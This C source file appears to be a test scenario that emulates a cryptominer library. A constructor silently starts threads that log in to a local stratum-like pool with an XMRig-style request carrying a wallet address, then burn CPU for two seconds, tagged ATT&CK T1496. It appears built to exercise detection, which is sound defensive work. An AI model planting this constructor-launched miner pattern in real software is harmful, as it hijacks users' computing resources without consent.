/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_miner.so: a cryptominer started from a constructor: one thread
 * logs in to a "pool" (the runner's stratum-like listener on 127.0.0.1)
 * with an XMRig-style JSON-RPC login, takes the job it answers, then fans
 * out worker threads that burn CPU hashing for 2 s.
 * ATT&CK: T1496 Resource Hijacking.
 * Proof: NAME.ran first; NAME.done once the pool sent a job and the
 * workers started. */
#include <pthread.h>
#include <stdint.h>
#include <time.h>

#include "scn.h"

#define WORKERS 4

static volatile uint64_t sink;

static void *worker(void *arg)
{
	struct timespec start, now;
	uint64_t h = (uintptr_t)arg;

	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		for (int i = 0; i < 100000; i++)
			h = (h ^ (h >> 31)) * 0x9e3779b97f4a7c15ull + i;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec - start.tv_sec < 2);
	sink = h;
	return NULL;
}

static void *pool(void *arg)
{
	static const char login[] = "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":"
		"{\"login\":\"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uN"
		"br2VBBEt7f2wfn3RVGQBEP3A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\",\"algo\":[\"rx/0\"]}}\n";
	pthread_t t[WORKERS];
	char reply[1024];
	int fd = scn_connect_local(scn_port("SCENARIO_POOL_PORT")), started = 0;
	ssize_t n;

	(void)arg;
	if (fd < 0 || scn_send_all(fd, login, sizeof(login) - 1))
		goto out;
	n = recv(fd, reply, sizeof(reply) - 1, 0);
	if (n <= 0)
		goto out;
	reply[n] = 0;
	if (!strstr(reply, "\"job\""))
		goto out;
	for (int i = 0; i < WORKERS; i++)
		started += !pthread_create(&t[i], NULL, worker, (void *)(uintptr_t)(i + 1));
	if (started == WORKERS)
		scn_mark("done");
	for (int i = 0; i < started; i++)
		pthread_join(t[i], NULL);
out:
	if (fd >= 0)
		close(fd);
	return NULL;
}

__attribute__((constructor)) static void miner_init(void)
{
	scn_mark("ran");
	scn_detached(pool, NULL);
}
